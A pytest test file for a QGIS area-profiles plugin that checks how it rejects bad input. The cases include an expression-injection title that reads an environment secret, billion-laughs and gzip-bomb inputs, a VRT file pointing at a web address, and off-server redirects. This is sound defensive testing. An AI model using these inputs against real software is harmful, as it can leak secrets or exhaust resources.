    # print layouts and exports
    Case("map to a missing folder", r"Folder not found",
         layout_export(lambda env: env.out / "missing" / "map.pdf")),
    Case("unknown export format", r"Export format must be one of",
         layout_export(lambda env: env.out / "map.docx")),
    Case("report map of an unknown hub", r"No hub called 'Atlantis'",
         layout_export(lambda env: env.out / "map.pdf", ("fuel_poverty", "hub", "Atlantis"))),
    Case("atlas into a missing folder", r"Folder not found",
         atlas_into(lambda env: env.out / "missing")),
    Case("atlas of a hub with no neighbourhoods", r"has no neighbourhoods",
         atlas_into(lambda env: env.out, "Atlantis")),
    Case("profile of an unknown hub", r"No hub called 'Atlantis'", profile_of("Atlantis")),
    Case("name with only characters files cannot have", r"cannot be turned into a file name",
         unusable_file_name),
    Case("atlas into a folder holding the user's own file", r"1 of the 3 files are already in .*"
         r"Central Coventry\.pdf", atlas_pages,
         user_files_in_the_atlas_folder("Central Coventry.pdf", "notes.txt")),
    Case("atlas with a folder in the way", r"A folder called Hillfields\.pdf is in the way",
         lambda env: atlas_pages(env, overwrite=True),
         user_files_in_the_atlas_folder("Central Coventry.pdf", folders=("Hillfields.pdf",))),
    Case("atlas file named in another case", r"already in .*central coventry\.PDF",
         atlas_pages, user_files_in_the_atlas_folder("central coventry.PDF")),
    Case("atlas replacing files fails part-way", r"Cannot write .*Input/output error",
         replacing_fails_part_way,
         user_files_in_the_atlas_folder("Central Coventry.pdf", "Hillfields.pdf",
                                        "Stoke Heath.pdf")),
    Case("neighbourhood names no file system takes", None, names_no_file_system_takes,
         writes=("out/atlas/*",)),
    Case("comparison CSV written onto the pack", r"coventry\.gpkg is a database .* never "
         "replaces it", export_onto_the_pack("csv")),
    Case("comparison workbook written onto the pack", r"coventry\.gpkg is a database",
         export_onto_the_pack("xlsx")),
    Case("profile PDF written onto the pack", r"coventry\.gpkg is a database",
         export_onto_the_pack("pdf")),
    Case("pack built onto a source file", r"coventry_fuel_poverty_2020_lsoa11\.csv exists and is "
         "not a JSNA data pack", build_onto_a_source),
    # your own data
    Case("negative count", r"negative count \(-3\) for E01009522",
         add("code,n,d\nE01009522,-3,40\n")),
    Case("denominator of zero is a warning, not an error", None,
         add("code,n,d\nE01009522,0,0\nE01009523,3,40\n",
             then=zero_denominator_is_warned_and_missing)),
    Case("mixed 2011 and 2021 codes", r"mixes LSOA 2011 codes \(E01009522\) with LSOA 2021",
         add("code,n,d\nE01009522,3,40\nE01035000,3,40\n")),
    Case("XLSX with merged header rows", r"first row is not a header row", merged_header_xlsx),
    Case("CSV in Windows-1252 with £ and é", None, windows_encoded_table),
    Case("CSV neither UTF-8 nor Windows-1252", r"own\.csv: neither UTF-8 nor Windows-1252 "
         r"text \(byte 0x81", add(b"code,n,d\nE01009522,3,40\n\x81\n")),
    Case("hub lookup neither UTF-8 nor Windows-1252", r"lookup\.csv: neither UTF-8 nor "
         "Windows-1252", lookup_build(b"area_code,hub,basis\nE02001981,Harmony\x81,test\n")),
    Case("own indicator title that is a QGIS expression", r"The indicator's title 'Rate \[% "
         r"env\('JSNA_SECRET'\) %\]' contains '\[%'",
         add("code,n,d\nE01009522,3,40\n", title="Rate [% env('JSNA_SECRET') %]")),
    Case("own table that is the pack itself", r"is the data pack itself", own_table_is_the_pack),
    Case("XLSX that expands entities (billion laughs)", r"laughs\.xlsx: cannot be read as a "
         "table", billion_laughs_xlsx),
    Case("table that is a .vrt reading a web address", r"own\.vrt: a \.vrt file can point",
         vrt_table(".vrt")),
    Case("VRT saved under a .gpkg name", r"own\.gpkg: cannot be read as a table",
         vrt_table(".gpkg")),
    # downloads
    Case("download that is an HTML error page", r"HTML page",
         downloaded(lambda data: gzip.compress(b"<!DOCTYPE html><p>Error 500</p>"))),
    Case("download cut short", r"damaged or incomplete",
         downloaded(lambda data: data[: len(data) // 2])),
    Case("download with no end", r"sent more than 67,108,864 bytes",
         lambda env: fetch_into_cache(env, endless)),
    Case("download that trickles", r"took longer than 1 s",
         lambda env: fetch_into_cache(env, trickle, deadline_s=1)),
    Case("gzip bomb in one long line", r"first line is longer than 65,536 bytes",
         gzip_bomb_with_one_long_line),
    Case("gzip bomb", r"unpacks to more than 16,777,216 bytes", gzip_bomb),
    Case("right header, made-up rows", r"SHA-256 is not the one in the manifest", made_up_rows),
    Case("redirect to another server", r"redirects to another server .*; not followed",
         redirected_elsewhere),
    Case("length that is not a number", r"announced a length that is not a number \('abc'\)",
         lambda env: fetch_into_cache(env, send(b"data", length="abc"))),
    Case("user name, password and token in the address", r"answered 404",
         secrets_in_the_address),
    Case("token in the address kept, and out of messages", None, token_in_the_address_works,
         writes=("out/cache/*",)),
    Case("assets table without a name column", r"assets\.csv: the community assets table needs "
         r"the columns name and description .*'name' is missing",
         word_profile(assets="title,description\nHall,Meets weekly\n")),
    Case("assets with unplaceable postcodes listed, not mapped", None,
         word_profile(assets="name,description,postcode\nHall,Meets,ZZ9 9ZZ\nClub,Plays,\n"),
         writes=("out/harmony.docx",)),
    Case("local text folder that is not there", r"Folder of local text not found",
         word_profile(local_text="no such folder")),
    Case("templates with a field they cannot fill", r"the template 'ratio' uses \{hub_name\}, "
         r"which it cannot fill", word_profile(templates={"ratio": "{hub_name} {ratio}"})),
    Case("PostGIS server down", r"Cannot connect to the PostgreSQL server",
         lambda env: compare_on(f"PG:host={env.inputs} dbname=jsna user=jsna_writer "
                                "schema=corpus_pack"), server=True),
    Case("PostGIS wrong password", r"password authentication failed for user \"jsna_writer\"",
         wrong_password, server=True),
    Case("PostGIS database without PostGIS", r"has no PostGIS: run CREATE EXTENSION postgis",
         database_without_postgis, server=True),
    Case("PostGIS schema that is not a pack", r"'pg_toast' on the server holds no JSNA pack",
         lambda env: compare_on(f"PG:{env.server().writer} schema=pg_toast"), server=True),
    Case("PostGIS pack from a newer plugin version", r"written by a newer version of JSNA "
         r"Area Profiles \(pack format 99", newer_pack_published, server=True),
    Case("PostGIS publish over a pack without replace", r"'corpus_pack' already holds a pack "
         r"on the server: publish with --replace", publish_again, prepare=lambda env:
         env.published(), server=True),
    Case("PostGIS indicator added by a read-only role", r"your role can read packs on this "
         r"server but not change them", readers_indicator, prepare=lambda env: env.published(),
         server=True),
    Case("Word profile onto a folder of the same name", r"Cannot write in_the_way\.docx: Is a "
         r"directory",
         word_profile(target="in_the_way.docx"), prepare=lambda env: (
             env.out / "in_the_way.docx" / "kept").mkdir(parents=True)),
]


def server_state(env: Env) -> list:
    """Every schema on the server with its tables' row counts, and the saved styles."""
    import psycopg2

    with closing(psycopg2.connect(env.server().admin)) as db, db.cursor() as cursor:
        cursor.execute("SELECT n.nspname, c.relname, c.reltuples FROM pg_class c JOIN "
                       "pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind = 'r' AND "
                       "n.nspname NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2")
        tables = cursor.fetchall()
        cursor.execute("SELECT COUNT(*) FROM pg_tables WHERE tablename = 'layer_styles'")
        if cursor.fetchone()[0]:
            cursor.execute("SELECT f_table_schema, COUNT(*) FROM public.layer_styles GROUP BY 1 "
                           "ORDER BY 1")
            tables.append(tuple(cursor.fetchall()))
        return tables


def plugin_still_works(env: Env) -> None:
    from qgis.core import QgsProject

    from jsna_profiles.core.compare import ComparePack
    from jsna_profiles.layers.pack import open_pack
    from jsna_profiles.layers.themes import apply_theme

    assert len(ComparePack(env.pack).table("Harmony").areas) == 3 + 4  # hub, city, England, England and Wales
    project = QgsProject()
    apply_theme(open_pack(env.pack, project), "fuel_poverty")
    project.clear()


def test_corpus_is_large_enough():
    assert len(CASES) >= 30 and len({c.name for c in CASES}) == len(CASES)


def problems(case: Case, env: Env) -> list[str]:
    """Run ``case``; everything wrong with what it did (empty when all is well)."""
    found = []
    if case.prepare is not None:
        case.prepare(env)  # the damage is the input; what follows must not change anything
    before = env.hashes()
    server_before = server_state(env) if case.server else None
    try:
        case.run(env)
        if case.message is not None:
            found.append(f"no error, expected /{case.message}/")
    except JsnaInputError as exc:
        message = str(exc)
        if case.message is None:
            found.append(f"unexpected error: {message}")
        elif "\n" in message or "Traceback" in message or not re.search(case.message, message):
            found.append(f"message: {message}")
    after = env.hashes()
    made = {str(p.relative_to(env.root)) for p in env.made}
    if case.server and server_state(env) != server_before:
        found.append("the server's packs changed")
    found += [f"changed or removed: {k}" for k in before if after.get(k) != before[k]]
    found += [f"left behind: {k}" for k in after if k not in before and k not in made
              and not any(fnmatch.fnmatch(k, pattern) for pattern in case.writes)]
    return found


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input(case, coventry_pack, tmp_path, qgis_app, request):
    env = Env(tmp_path, coventry_pack)
    env.request = request
    assert problems(case, env) == []
    plugin_still_works(env)
